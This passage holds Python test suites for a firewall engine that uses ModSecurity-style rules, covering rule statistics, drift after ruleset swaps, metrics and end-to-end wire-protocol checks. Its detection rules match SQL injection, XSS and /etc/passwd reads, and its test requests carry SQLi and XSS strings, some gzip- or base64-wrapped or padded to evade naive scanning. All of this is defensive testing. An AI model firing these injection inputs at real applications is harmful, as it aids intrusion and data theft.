from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.models.rule_stats import (
    RuleStats,
    bench_block,
    device_efficiency,
    drift_report,
    family_of,
)
from ingress_plus_tpu.serve.normalize import Request

RULES = r"""
SecRule ARGS "@rx (?i)union\s+select" \
    "id:942100,phase:2,block,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS|REQUEST_URI "@rx (?i)<script" \
    "id:941100,phase:2,block,severity:CRITICAL,tag:'attack-xss'"
SecRule ARGS "@contains etcpasswd" \
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""

#: variable-width lookbehind: RegexUnsupported for the factor compiler
#: (→ always-confirm) AND rejected by Python re (→ confirm abstains on
#: every value) — the silently-dead rule class rulecheck catches
#: statically, here injected to prove the RUNTIME twin catches it too
BROKEN_RULE = r"""
SecRule ARGS "@rx (?<=x+)y" \
    "id:999901,phase:2,block,severity:CRITICAL,tag:'attack-sqli'"
"""


def _requests():
    return [
        Request(uri="/q?a=1+union+select+2", request_id="1"),
        Request(uri="/p?b=%3Cscript%3Ealert(1)", request_id="2"),
        Request(uri="/ok?c=hello", request_id="3"),
        Request(uri="/q?a=union+select+1&d=<script>", request_id="4"),
    ]


def test_family_of():
    assert family_of(942100) == "942"
    assert family_of(100000) == "100"
    assert family_of(99999) == "custom"
    assert family_of(7) == "custom"


def test_vectorized_counters_match_scalar_reference():
    """Batched accounting must equal per-request (batch of 1) scalar
    accumulation — the vectorization is pure bookkeeping."""
    cr = compile_ruleset(parse_seclang(RULES))
    batched = DetectionPipeline(cr, mode="block")
    scalar = DetectionPipeline(cr, mode="block")
    reqs = _requests()
    verdicts = batched.detect(reqs)

    ref_cand = np.zeros(cr.n_rules, np.int64)
    ref_conf = np.zeros(cr.n_rules, np.int64)
    ref_score = np.zeros(cr.n_rules, np.int64)
    ref_block = np.zeros(cr.n_rules, np.int64)
    for req in reqs:
        hits = scalar.prefilter([req])
        ref_cand += hits[0]
        v = scalar.finalize([req], hits, 0.0)[0]
        for rid in v.rule_ids:
            idx = int(np.nonzero(cr.rule_ids == rid)[0][0])
            ref_conf[idx] += 1
            ref_score[idx] += int(cr.rule_score[idx])
            ref_block[idx] += int(v.blocked)

    rs = batched.rule_stats
    assert rs.requests == len(reqs)
    np.testing.assert_array_equal(rs.candidates, ref_cand)
    np.testing.assert_array_equal(rs.confirmed, ref_conf)
    np.testing.assert_array_equal(rs.score_sum, ref_score)
    np.testing.assert_array_equal(rs.block_hits, ref_block)
    # the scalar pipeline accumulated the same traffic one by one
    np.testing.assert_array_equal(scalar.rule_stats.candidates, ref_cand)
    np.testing.assert_array_equal(scalar.rule_stats.confirmed, ref_conf)
    # verdict agreement between the two pipelines (sanity)
    assert [v.rule_ids for v in verdicts] == \
        [scalar.detect([r])[0].rule_ids for r in reqs]


def test_confirm_error_accounting_on_broken_rule():
    """ISSUE 3 acceptance: a rule whose confirm regex fails at runtime
    shows up as runtime-dead with nonzero confirm_errors after a SINGLE
    request that candidates it."""
    cr = compile_ruleset(parse_seclang(RULES + BROKEN_RULE))
    pipe = DetectionPipeline(cr, mode="block")
    idx = int(np.nonzero(cr.rule_ids == 999901)[0][0])
    # always-confirm (no prefilter factors): one request candidates it
    assert cr.tables.rule_nfactors[idx] == 0
    pipe.detect([Request(uri="/q?a=xy", request_id="1")])

    rs = pipe.rule_stats
    assert rs.broken[idx]
    assert rs.candidates[idx] >= 1
    assert rs.confirm_errors[idx] >= 1
    assert rs.confirmed[idx] == 0
    health = rs.health()
    dead = {d["rule_id"]: d for d in health["runtime_dead"]}
    assert 999901 in dead
    assert dead[999901]["confirm_errors"] >= 1
    assert "regex-unparsable" in dead[999901]["reason"]
    # the healthy rules never enter the dead lists
    assert not any(d["rule_id"] == 942100
                   for d in health["runtime_dead"] + health["latent_dead"])
    # ...and the dead rule stays OUT of the tuning target list — its
    # waste is reported under runtime_dead, not as tunable confirm CPU
    assert all(w["rule_id"] != 999901
               for w in health["top_false_candidates"])


def test_broken_chain_link_is_dead_too():
    rules = parse_seclang(r"""
SecRule ARGS "@contains foo" "id:999902,phase:2,block,chain"
    SecRule ARGS "@rx (?<=x+)y" ""
""")
    cr = compile_ruleset(rules)
    pipe = DetectionPipeline(cr, mode="block")
    rs = pipe.rule_stats
    idx = int(np.nonzero(cr.rule_ids == 999902)[0][0])
    assert rs.broken[idx]
    assert "chain-link" in rs.broken_reason[idx]


def test_health_false_candidate_ranking():
    """A rule that candidates but never confirms ranks by wasted
    confirm evaluations."""
    cr = compile_ruleset(parse_seclang(r"""
SecRule ARGS "@rx select.{0,60}from" "id:942101,phase:2,block"
"""))
    pipe = DetectionPipeline(cr, mode="block")
    # "select" + "from" factors fire, the full regex doesn't (order)
    pipe.detect([Request(uri="/q?a=from+me+select", request_id="1"),
                 Request(uri="/q?a=from+you+select", request_id="2")])
    h = pipe.rule_stats.health()
    top = h["top_false_candidates"]
    assert top and top[0]["rule_id"] == 942101
    assert top[0]["wasted_confirms"] == 2
    assert top[0]["false_candidate_rate"] == 1.0


def test_device_efficiency_gauges_counted():
    cr = compile_ruleset(parse_seclang(RULES))
    pipe = DetectionPipeline(cr, mode="block")
    pipe.detect(_requests())
    eff = device_efficiency(pipe.stats)
    assert eff["padding_waste_ratio"] is not None
    assert 0.0 <= eff["padding_waste_ratio"] < 1.0
    assert 0.0 < eff["dispatch_fill"] <= 1.0
    assert eff["engine_recompiles"] >= 1       # no warmup: first shape
    assert eff["bucket_rows"]                  # at least one L tier hit
    # a repeat batch of the same shape adds no recompile
    before = pipe.stats.engine_compiles
    pipe.detect(_requests())
    assert pipe.stats.engine_compiles == before


def test_bench_block_shape():
    cr = compile_ruleset(parse_seclang(RULES + BROKEN_RULE))
    pipe = DetectionPipeline(cr, mode="block")
    assert bench_block(pipe) is None      # no traffic yet → LOUD path
    pipe.detect(_requests() + [Request(uri="/q?a=xy", request_id="9")])
    b = bench_block(pipe)
    assert b is not None
    assert b["requests"] == 5
    assert "942" in b["per_family"]
    assert 0.0 <= b["per_family"]["942"]["false_candidate_rate"] <= 1.0
    assert b["padding_waste_ratio"] is not None
    assert 999901 in b["runtime_dead"]


def test_in_place_swap_freezes_stats():
    """DetectionPipeline.swap_ruleset (library path) freezes the
    outgoing generation for drift, same as the batcher path."""
    cr_a = compile_ruleset(parse_seclang(RULES))
    pipe = DetectionPipeline(cr_a, mode="block")
    pipe.detect(_requests())
    old_confirmed = pipe.rule_stats.confirmed.copy()
    cr_b = compile_ruleset(parse_seclang(RULES))
    pipe.swap_ruleset(cr_b)
    assert pipe.frozen_rule_stats is not None
    assert pipe.frozen_rule_stats.requests == 4
    np.testing.assert_array_equal(
        pipe.frozen_rule_stats.confirmed, old_confirmed)
    assert pipe.rule_stats.requests == 0      # fresh generation


def test_reset_detection_observations_drops_warmup():
    """Warmup traffic must not pollute the telemetry: the reset zeroes
    RuleStats and the device-efficiency group (keeping the structural
    broken mask and the cumulative Prometheus counters)."""
    cr = compile_ruleset(parse_seclang(RULES + BROKEN_RULE))
    pipe = DetectionPipeline(cr, mode="block")
    pipe.detect(_requests() + [Request(uri="/q?a=xy", request_id="w")])
    assert pipe.rule_stats.requests == 5
    rows_before = pipe.stats.rows
    pipe.reset_detection_observations()
    rs = pipe.rule_stats
    assert rs.requests == 0
    assert rs.candidates.sum() == 0 and rs.confirm_errors.sum() == 0
    assert rs.broken.any()                     # structural mask survives
    assert pipe.stats.padded_rows == 0
    assert pipe.stats.engine_compiles == 0
    assert pipe.stats.bucket_rows == {}
    assert pipe.stats.rows == rows_before      # Prometheus counter kept
    # post-reset traffic counts cleanly; a same-shape batch adds no
    # recompile (the shapes were compiled before the reset — only
    # genuinely NEW shapes count after it)
    pipe.detect(_requests() + [Request(uri="/q?a=xy", request_id="w2")])
    assert pipe.rule_stats.requests == 5
    assert pipe.stats.engine_compiles == 0
    eff = device_efficiency(pipe.stats)
    assert eff["dispatch_fill"] is not None


def test_ctl_pass_rules_not_counted_as_candidates():
    """Config machinery (ctl-carrying pass rules) never reaches the
    confirm loop as a detection — it must not read as wasted confirm
    CPU or a never-hit rule in /rules/health."""
    cr = compile_ruleset(parse_seclang(r"""
SecRule REQUEST_URI "@contains /admin" \
    "id:900900,phase:1,pass,ctl:ruleRemoveById=942100"
SecRule ARGS "@rx (?i)union\s+select" \
    "id:942100,phase:2,block,severity:CRITICAL"
"""))
    pipe = DetectionPipeline(cr, mode="block")
    idx = int(np.nonzero(cr.rule_ids == 900900)[0][0])
    assert idx in pipe._ctl_pass_idx
    pipe.detect([Request(uri="/admin?x=1", request_id="1")])
    assert pipe.rule_stats.candidates[idx] == 0
    assert all(w["rule_id"] != 900900
               for w in pipe.rule_stats.health()["top_false_candidates"])


def test_runtime_ctl_excluded_rules_not_counted_as_candidates():
    """A rule removed per-request by a matched runtime ctl rule never
    reaches confirm for that request — it must not book candidates
    (wasted-confirm CPU) on the traffic that excluded it."""
    cr = compile_ruleset(parse_seclang(r"""
SecRule REQUEST_URI "@contains /admin" \
    "id:900901,phase:1,pass,ctl:ruleRemoveById=942100"
SecRule ARGS "@rx (?i)union\s+select" \
    "id:942100,phase:2,block,severity:CRITICAL"
"""))
    pipe = DetectionPipeline(cr, mode="block")
    idx = int(np.nonzero(cr.rule_ids == 942100)[0][0])
    # excluded on /admin traffic: no verdict hit AND no candidate
    v = pipe.detect([Request(uri="/admin?a=1+union+select+2",
                             request_id="1")])[0]
    assert not v.attack
    assert pipe.rule_stats.candidates[idx] == 0
    # un-excluded traffic still counts normally
    v = pipe.detect([Request(uri="/q?a=1+union+select+2",
                             request_id="2")])[0]
    assert v.attack
    assert pipe.rule_stats.candidates[idx] == 1
    assert pipe.rule_stats.confirmed[idx] == 1


def test_drift_report_no_swap_note():
    cr = compile_ruleset(parse_seclang(RULES))
    pipe = DetectionPipeline(cr, mode="block")
    d = drift_report(pipe.frozen_rule_stats, pipe.rule_stats)
    assert "note" in d and d["rules"] == []


# ------------------------------------------------- serve-plane e2e

@pytest.fixture()
def serve_stack(tmp_path):
    from ingress_plus_tpu.serve.batcher import Batcher
    from ingress_plus_tpu.serve.server import ServeLoop

    cr = compile_ruleset(parse_seclang(RULES))
    pipe = DetectionPipeline(cr, mode="block")
    batcher = Batcher(pipe, max_delay_s=0.001)
    serve = ServeLoop(batcher, str(tmp_path / "ipt.sock"))
    yield serve, batcher, tmp_path
    batcher.close()


def _route(serve, method, path, payload=b""):
    status, _ctype, body = asyncio.run(
        serve._route_http(method, path, payload))
    return status, json.loads(body)


def test_drift_across_live_ruleset_swap(serve_stack):
    """ISSUE 3 acceptance: /rules/drift returns per-rule hit-rate
    deltas after a live /configuration/ruleset (the /wallarm sync-node
    analog) hot swap, and flags the rule that went quiet."""
    serve, batcher, tmp_path = serve_stack
    attack = Request(uri="/q?a=1+union+select+2", request_id="a")
    assert batcher.submit(attack).result(30).attack
    assert batcher.submit(
        Request(uri="/ok?c=1", request_id="b")).result(30).attack is False

    # ruleset B: 942100's pattern can no longer match anything the
    # traffic carries — the rule goes quiet after the reload
    cr_b = compile_ruleset(parse_seclang(r"""
SecRule ARGS "@rx (?i)union\s+selectzzz9" \
    "id:942100,phase:2,block,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS|REQUEST_URI "@rx (?i)<script" \
    "id:941100,phase:2,block,severity:CRITICAL,tag:'attack-xss'"
"""))
    art = tmp_path / "pack_b"
    cr_b.save(art)
    status, body = _route(
        serve, "POST", "/configuration/ruleset",
        json.dumps({"path": str(art)}).encode())
    assert status.startswith("200"), body
    assert body["ruleset"] == cr_b.version

    # same traffic against the new pack: 942100 silent, 941100 alive
    assert batcher.submit(replace_id(attack, "c")).result(30).attack \
        is False
    assert batcher.submit(Request(
        uri="/p?b=<script>alert(1)", request_id="d")).result(30).attack

    # default traffic floor (min=100): the deltas report but nothing
    # is flagged quiet off 2 requests of new traffic
    _status, unfloored = _route(serve, "GET", "/rules/drift")
    assert unfloored["went_quiet"] == []
    assert any(r["rule_id"] == 942100 for r in unfloored["rules"])

    status, drift = _route(serve, "GET", "/rules/drift?min=2")
    assert status.startswith("200")
    assert drift["old_version"] != drift["new_version"]
    assert drift["old_requests"] == 2 and drift["new_requests"] == 2
    rows = {r["rule_id"]: r for r in drift["rules"]}
    assert 942100 in rows
    assert rows[942100]["old_hit_rate"] == 0.5
    assert rows[942100]["new_hit_rate"] == 0.0
    assert rows[942100]["delta"] == -0.5
    assert rows[942100]["went_quiet"]
    assert drift["went_quiet"] == [942100]
    # 941100: quiet before, hitting after — positive delta, not quiet
    assert rows[941100]["delta"] == 0.5
    assert not rows[941100]["went_quiet"]
    # the removed third rule shows in the pack delta
    assert 930120 in drift["removed_rules"]


def replace_id(req, rid):
    from dataclasses import replace
    return replace(req, request_id=rid)


def test_rules_stats_and_health_endpoints(serve_stack):
    serve, batcher, _tmp = serve_stack
    batcher.submit(Request(uri="/q?a=1+union+select+2",
                           request_id="a")).result(30)
    status, stats = _route(serve, "GET", "/rules/stats")
    assert status.startswith("200")
    assert stats["requests"] == 1
    assert stats["device"]["scan_impl"]
    assert stats["efficiency"]["dispatch_fill"] is not None
    rows = {r["rule_id"]: r for r in stats["rules"]}
    assert rows[942100]["confirmed"] == 1
    assert rows[942100]["block_hits"] == 1
    # ?n= caps the per-rule list
    _status, capped = _route(serve, "GET", "/rules/stats?n=1")
    assert len(capped["rules"]) == 1
    _status, health = _route(serve, "GET", "/rules/health")
    assert health["runtime_dead"] == []
    assert health["never_hit"]["count"] == 2   # 941100 + 930120 silent


def test_metrics_family_series_and_gauges(serve_stack):
    serve, batcher, _tmp = serve_stack
    batcher.submit(Request(uri="/q?a=1+union+select+2",
                           request_id="a")).result(30)
    text = serve._metrics_text()
    ver = batcher.pipeline.ruleset.version
    assert ('ipt_rule_family_hits_total{version="%s",family="942"} 1'
            % ver) in text
    assert "ipt_pad_waste_ratio" in text
    assert "ipt_dispatch_fill" in text
    assert "ipt_engine_recompiles_total" in text
    # version labels only on per-generation series (they reset at each
    # swap, so the label change is an honest counter reset); cumulative
    # counters stay unlabeled and attribute via the ipt_ruleset_info
    # join (the satellite's "where it's free" boundary)
    assert ('ipt_confirm_errors_total{version="%s"}' % ver) in text
    assert ('ipt_rules_runtime_dead{version="%s"}' % ver) in text
    assert "\nipt_confirmed_hits_total %d" % \
        batcher.pipeline.stats.confirmed_rule_hits in text
    assert ('ipt_ruleset_info{version="%s"' % ver) in text


def test_bounded_counter_series_caps_cardinality():
    from ingress_plus_tpu.utils.trace import bounded_counter_series

    counts = {"f%03d" % i: i + 1 for i in range(50)}
    lines = bounded_counter_series("m", "family", counts, cap=10)
    assert len(lines) == 11                    # 10 + the other bucket
    other = [l for l in lines if 'family="other"' in l]
    assert len(other) == 1
    # the fold carries the summed remainder, so nothing is lost
    total = sum(int(l.rsplit(" ", 1)[1]) for l in lines)
    assert total == sum(counts.values())
    # top keys survive verbatim, version label rides every line
    lines_v = bounded_counter_series("m", "family", {"a": 5}, cap=10,
                                     extra={"version": "v1"})
    assert lines_v == ['m{version="v1",family="a"} 5']


def test_dbg_rules_and_drift_render():
    from ingress_plus_tpu.control.dbg import render_drift, render_rules

    stats = {"version": "v1", "requests": 10,
             "device": {"scan_impl": "pair"},
             "efficiency": {"padding_waste_ratio": 0.5,
                            "dispatch_fill": 0.9,
                            "engine_recompiles": 1},
             "rules": [{"rule_id": 942100, "family": "942",
                        "candidates": 5, "confirmed": 2,
                        "confirm_errors": 0,
                        "false_candidate_rate": 0.6, "score_sum": 10}]}
    health = {"requests": 10,
              "runtime_dead": [{"rule_id": 999901, "confirm_errors": 3,
                                "reason": "regex-unparsable: boom"}],
              "latent_dead": [],
              "never_hit": {"count": 1, "total_rules": 2},
              "top_false_candidates": [
                  {"rule_id": 942100, "family": "942",
                   "wasted_confirms": 3, "false_candidate_rate": 0.6}]}
    out = render_rules(stats, health)
    assert "942100" in out and "999901" in out
    assert "runtime-dead rules (1)" in out
    assert "regex-unparsable: boom" in out

    drift = {"old_version": "a", "new_version": "b",
             "old_requests": 4, "new_requests": 4,
             "went_quiet": [942100],
             "rules": [{"rule_id": 942100, "old_hit_rate": 0.5,
                        "new_hit_rate": 0.0, "delta": -0.5,
                        "went_quiet": True}],
             "added_rules": [], "removed_rules": [930120]}
    out = render_drift(drift)
    assert "QUIET" in out and "942100" in out
    assert "-1 rules" in out
    assert render_drift({"note": "no swap", "rules": []}) == "no swap"
