"""End-to-end serve path: UDS server subprocess ⇄ C++ loadgen binary.

The kind-cluster e2e analog (SURVEY.md §4): a real serve loop process, the
real native client, real frames over a real socket — asserting verdict
behavior and liveness endpoints, not internals.  Uses a tiny ruleset so
the CPU-backed scan keeps CI fast.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
LOADGEN = REPO / "native" / "sidecar" / "loadgen"

TINY_RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY|REQUEST_HEADERS "@rx /etc/passwd" \
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
SecRule RESPONSE_BODY "@rx (?i)you have an error in your sql syntax" \
    "id:951100,phase:4,block,t:lowercase,severity:CRITICAL,tag:'attack-leak'"
"""


@pytest.fixture(scope="module")
def loadgen_bin():
    if shutil.which("g++") is None:
        pytest.skip("no g++")
    subprocess.run(["make", "-s", "-C", str(REPO / "native" / "sidecar")],
                   check=True)
    assert LOADGEN.exists()
    return LOADGEN


@pytest.fixture(scope="module")
def server(tmp_path_factory, loadgen_bin):
    tmp = tmp_path_factory.mktemp("serve")
    rules_dir = tmp / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(TINY_RULES)
    sock = str(tmp / "ipt.sock")
    spool = tmp / "spool"
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    proc = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", sock, "--http-port", "19901",
         "--rules-dir", str(rules_dir), "--platform", "cpu",
         # warmup ON (tiny pack, compiles in seconds): with --no-warmup
         # a cold-compile stall mid-loadgen queues requests long enough
         # for the brownout ladder to serve degraded (attack, unblocked)
         # verdicts — the test then flakes on blocked == attacks under
         # full-suite CPU contention
         # hard deadline raised WAY above the production default: the
         # brownout ladder derives its queue-delay thresholds from it,
         # and a full-suite 1-core CI host can stall any subprocess for
         # hundreds of ms (scheduler bursts, cold XLA) — this module
         # asserts exact verdicts (blocked == attacks), not shedding
         # behavior, so the ladder must not be armed at CI sensitivity
         "--hard-deadline-ms", "5000",
         "--max-delay-us", "1000", "--max-batch", "64",
         "--spool-dir", str(spool), "--export-interval-s", "0.5"],
        cwd=str(REPO), env=env,
        stderr=subprocess.PIPE, text=True)
    # wait for the socket
    for _ in range(600):
        if Path(sock).exists():
            try:
                s = socket.socket(socket.AF_UNIX)
                s.connect(sock)
                s.close()
                break
            except OSError:
                pass
        if proc.poll() is not None:
            raise RuntimeError("server died: %s" % proc.stderr.read())
        time.sleep(0.1)
    else:
        proc.kill()
        raise RuntimeError("server socket never appeared")

    class Srv(str):  # str so existing uses (socket path) keep working
        pass

    srv = Srv(sock)
    srv.spool = spool
    yield srv
    proc.terminate()
    proc.wait(timeout=10)


def _export_corpus(path, n=200, attack_fraction=0.3):
    from ingress_plus_tpu.utils.export_corpus import export

    return export(str(path), n=n, seed=3, attack_fraction=attack_fraction)


def test_loadgen_roundtrip(server, loadgen_bin, tmp_path):
    corpus = tmp_path / "c.bin"
    n = _export_corpus(corpus, n=200)
    out = subprocess.run(
        [str(loadgen_bin), "--socket", server, "--corpus", str(corpus),
         "--connections", "2", "--inflight", "16", "--requests", "400"],
        capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout)
    assert result["requests"] == 400
    assert result["fail_open"] == 0
    # the corpus plants sqli/xss/lfi payloads the tiny ruleset must catch
    assert result["attacks"] > 0
    assert result["blocked"] == result["attacks"]  # block mode
    assert result["rps"] > 0


def test_health_and_metrics(server):
    health = json.loads(urllib.request.urlopen(
        "http://127.0.0.1:19901/healthz", timeout=10).read())
    assert health["status"] == "ok"
    metrics = urllib.request.urlopen(
        "http://127.0.0.1:19901/metrics", timeout=10).read().decode()
    assert "ipt_requests_total" in metrics
    assert "ipt_ruleset_info" in metrics


def test_wallarm_status_and_spool(server):
    """Postanalytics read side: counters endpoint + exporter spool
    (the /wallarm-status† + export-attacks† analogs, SURVEY.md §3.4/§3.5).
    Runs after loadgen so counters are non-zero."""
    st = json.loads(urllib.request.urlopen(
        "http://127.0.0.1:19901/wallarm-status", timeout=10).read())
    assert st["requests"] > 0
    assert st["attacks"] > 0
    assert st["blocked"] == st["attacks"]
    assert "queue" in st and "export" in st
    # exporter flushes every 0.5s; a per-pid attacks.*.jsonl must appear
    spool_file = None
    for _ in range(40):
        files = sorted(server.spool.glob("attacks*.jsonl"))
        if files and files[0].read_text().strip():
            spool_file = files[0]
            break
        time.sleep(0.25)
    assert spool_file is not None, "spool file never appeared"
    recs = [json.loads(l) for l in spool_file.read_text().splitlines()]
    assert sum(r["count"] for r in recs) > 0
    assert all("class" in r and "client" in r for r in recs)


def test_python_client_roundtrip(server):
    """Drive the raw protocol from Python too (sidecar-independent)."""
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_request)
    from ingress_plus_tpu.serve.normalize import Request

    s = socket.socket(socket.AF_UNIX)
    s.connect(server)
    s.sendall(encode_request(
        Request(uri="/q?a=1+union+select+2"), req_id=7001))
    s.sendall(encode_request(Request(uri="/benign"), req_id=7002))
    reader = FrameReader(RESP_MAGIC)
    got = {}
    s.settimeout(120)
    while len(got) < 2:
        frames = reader.feed(s.recv(65536))
        for f in frames:
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    assert got[7001]["attack"] and got[7001]["blocked"]
    assert 942100 in got[7001]["rule_ids"]
    assert not got[7002]["attack"]

def test_response_scan_over_wire(server):
    """Response-side analysis (wallarm_parse_response analog): a PTPI
    frame carrying an upstream response with a planted SQL error leak
    must come back flagged; a clean response must not.  Request-side
    rules must NOT fire on response bytes (station-keeping: the planted
    body contains 'union select' too, but 942100 targets request
    streams only)."""
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_response_scan)
    from ingress_plus_tpu.serve.normalize import Response

    s = socket.socket(socket.AF_UNIX)
    s.connect(server)
    leaky = Response(
        status=500, headers={"Content-Type": "text/html"},
        body=b"<h1>Oops</h1>You have an error in your SQL syntax near "
             b"'union select' at line 1 ")
    clean = Response(
        status=200, headers={"Content-Type": "application/json"},
        body=b'{"status": "ok", "items": [1, 2, 3]}')
    s.sendall(encode_response_scan(leaky, req_id=8001))
    s.sendall(encode_response_scan(clean, req_id=8002))
    reader = FrameReader(RESP_MAGIC)
    got = {}
    s.settimeout(120)
    while len(got) < 2:
        for f in reader.feed(s.recv(65536)):
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    assert got[8001]["attack"] and got[8001]["blocked"]
    assert got[8001]["rule_ids"] == [951100]
    assert got[8001]["classes"] == ["leak"]
    assert not got[8002]["attack"]


def test_streaming_body_over_wire(server):
    """Config #5 on the wire: MODE_STREAM request + chunk frames; attack
    spans a chunk boundary; a parallel clean stream passes."""
    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.serve.protocol import (
        MODE_STREAM, RESP_MAGIC, FrameReader, decode_response,
        encode_chunk, encode_request)

    s = socket.socket(socket.AF_UNIX)
    s.connect(server)
    s.settimeout(120)
    # stream 1: attack split across inline-first-chunk + two chunk frames
    s.sendall(encode_request(Request(uri="/upload", body=b"f=1 uni"),
                             req_id=6001, mode=2 | MODE_STREAM))
    s.sendall(encode_chunk(6001, b"on sele"))
    # stream 2 interleaved: clean
    s.sendall(encode_request(Request(uri="/upload2"),
                             req_id=6002, mode=2 | MODE_STREAM))
    s.sendall(encode_chunk(6002, b"hello "))
    s.sendall(encode_chunk(6001, b"ct pass from users", last=True))
    s.sendall(encode_chunk(6002, b"world", last=True))
    reader, got = FrameReader(RESP_MAGIC), {}
    while len(got) < 2:
        for f in reader.feed(s.recv(65536)):
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    assert got[6001]["attack"] and got[6001]["blocked"]
    assert 942100 in got[6001]["rule_ids"]
    assert not got[6002]["attack"]


def test_wrapped_bodies_over_wire(server):
    """SURVEY.md §3.3 decode/unpack parity on the wire: a gzipped and a
    base64-wrapped SQLi body must be detected end-to-end; streamed gzip
    chunks too."""
    import base64
    import gzip

    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.serve.protocol import (
        MODE_STREAM, RESP_MAGIC, FrameReader, decode_response,
        encode_chunk, encode_request)

    sqli = b"q=1' UNION SELECT password FROM users--"
    s = socket.socket(socket.AF_UNIX)
    s.connect(server)
    s.settimeout(120)
    s.sendall(encode_request(
        Request(method="POST", uri="/api",
                headers={"Content-Encoding": "gzip"},
                body=gzip.compress(sqli)), req_id=8001))
    s.sendall(encode_request(
        Request(method="POST", uri="/api",
                body=base64.b64encode(sqli)), req_id=8002))
    # streamed gzip: the same compressed body split into chunk frames
    comp = gzip.compress(b"x" * 30000 + sqli + b"y" * 30000)
    s.sendall(encode_request(
        Request(method="POST", uri="/up",
                headers={"Content-Encoding": "gzip"}, body=comp[:1000]),
        req_id=8003, mode=2 | MODE_STREAM))
    for i in range(1000, len(comp), 4096):
        s.sendall(encode_chunk(8003, comp[i:i + 4096]))
    s.sendall(encode_chunk(8003, b"", last=True))
    reader, got = FrameReader(RESP_MAGIC), {}
    while len(got) < 3:
        for f in reader.feed(s.recv(65536)):
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    for rid in (8001, 8002, 8003):
        assert got[rid]["attack"] and got[rid]["blocked"], (rid, got[rid])
        assert "sqli" in got[rid]["classes"], (rid, got[rid])


def test_oversized_body_over_wire(server):
    """BASELINE config #5 corner: a 1MB padded-prefix attack sent as ONE
    non-streamed frame must be caught (the serve loop reroutes it through
    the stream engine internally)."""
    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_request)

    body = b"P" * (1 << 20) + b" 1' union select password from users --"
    s = socket.socket(socket.AF_UNIX)
    s.connect(server)
    s.settimeout(120)
    s.sendall(encode_request(
        Request(method="POST", uri="/upload", body=body), req_id=9001))
    reader, got = FrameReader(RESP_MAGIC), {}
    while len(got) < 1:
        for f in reader.feed(s.recv(65536)):
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    assert got[9001]["attack"] and got[9001]["blocked"]
    assert 942100 in got[9001]["rule_ids"]


def test_configuration_endpoints_and_dbg(server, tmp_path):
    """Dynamic-config plane: tenant push, ruleset hot-swap (sync-node
    analog), inspection — all through the dbg CLI code path."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.control import dbg

    conf = json.loads(urllib.request.urlopen(
        "http://127.0.0.1:19901/configuration", timeout=10).read())
    assert conf["rules"] == 4 and conf["tenants"] == 1, conf

    # push a tenant table: tenant 1 = sqli only
    req = urllib.request.Request(
        "http://127.0.0.1:19901/configuration/tenants",
        data=json.dumps({"1": ["attack-sqli"]}).encode(), method="POST",
        headers={"Content-Type": "application/json"})
    assert json.loads(urllib.request.urlopen(req, timeout=10).read()) == \
        {"tenants": 2}

    # tenant 1 must not fire the xss rule, tenant 0 must
    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_request)
    s = socket.socket(socket.AF_UNIX)
    s.connect(server)
    s.sendall(encode_request(
        Request(uri="/q?a=<script>x</script>", tenant=1), req_id=8001))
    s.sendall(encode_request(
        Request(uri="/q?a=<script>x</script>", tenant=0), req_id=8002))
    reader, got = FrameReader(RESP_MAGIC), {}
    s.settimeout(120)
    while len(got) < 2:
        for f in reader.feed(s.recv(65536)):
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    assert not got[8001]["attack"], "tenant mask failed to exclude xss rule"
    assert got[8002]["attack"]

    # hot-swap to a 1-rule ruleset from a checkpoint artifact
    art = tmp_path / "swap"
    cr = compile_ruleset(parse_seclang(
        'SecRule ARGS "@rx (?i)drop\\s+table" '
        '"id:955000,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"'))
    cr.save(art)
    # --force: this asserts the ONE-SHOT swap lane (break-glass).  The
    # default is now the guarded staged rollout (control/rollout.py) —
    # and it would correctly REJECT this pack: a bare "drop table" rule
    # blocks the benign SQL-in-prose fixtures (tests/test_rollout.py
    # covers the staged path end to end).
    rc = dbg.main(["ruleset", "--server", "127.0.0.1:19901",
                   "--swap", str(art), "--force"])
    assert rc == 0
    conf = json.loads(urllib.request.urlopen(
        "http://127.0.0.1:19901/configuration", timeout=10).read())
    assert conf["rules"] == 1 and conf["ruleset"] == cr.version
    # old rules gone, new rule live
    s = socket.socket(socket.AF_UNIX)
    s.connect(server)
    s.sendall(encode_request(
